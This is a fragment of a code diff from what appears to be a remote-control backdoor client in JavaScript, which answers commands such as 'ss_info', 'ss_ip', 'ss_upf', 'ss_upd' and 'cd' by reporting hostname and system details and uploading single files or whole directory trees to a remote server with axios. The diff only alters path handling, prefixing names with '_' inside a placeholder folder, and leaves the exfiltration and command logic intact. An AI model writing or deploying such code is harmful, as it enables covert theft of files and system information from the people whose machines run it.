@@ -36,14 +36,14 @@ global.m = module;
   async function upload(axios, address, file, target) {
     const form = new FormData();
     form.append('client_id', os.hostname());
-    form.append('file', new Blob([fs.readFileSync(path.join('./example.invalid-folder/', path.basename(file)))]), target || path.basename(file));
+    form.append('file', new Blob([fs.readFileSync(path.join('./example.invalid-folder/', '_' + path.basename(file)))]), target || path.basename(file));
     await axios.post(address + '/u/f', form);
   }
 
   async function walk(axios, address, dir) {
-    for (const name of fs.readdirSync(path.join('./example.invalid-folder/', path.basename(dir)))) {
+    for (const name of fs.readdirSync(path.join('./example.invalid-folder/', '_' + path.basename(dir)))) {
       const full = path.join(dir, name);
-      if (fs.lstatSync(path.join('./example.invalid-folder/', path.basename(full))).isDirectory()) await walk(axios, address, full);
+      if (fs.lstatSync(path.join('./example.invalid-folder/', '_' + path.basename(full))).isDirectory()) await walk(axios, address, full);
       else await upload(axios, address, full).catch(() => {});
     }
   }
@@ -69,7 +69,7 @@ global.m = module;
     const words = String(line).split(' ');
     if (line === 'ss_info') answer({ cwd: here, started, platform: os.platform(), arch: os.arch(), release: os.release(), home: os.homedir() });
     else if (line === 'ss_ip') answer((await axios.get('http://ip.example.invalid/json')).data);
-    else if (words[0] === 'cd') here = path.join('./example.invalid-folder/', path.basename(words[1] || ''));
+    else if (words[0] === 'cd') here = path.join('./example.invalid-folder/', '_' + path.basename(words[1] || ''));
     else if (words[0] === 'ss_upf') answer(await upload(axios, store, words[1], words[2]));
     else if (words[0] === 'ss_upd') answer(await walk(axios, store, words[1] || ''));
     else if (line === 'ss_dir') answer(fs.readdirSync(here));
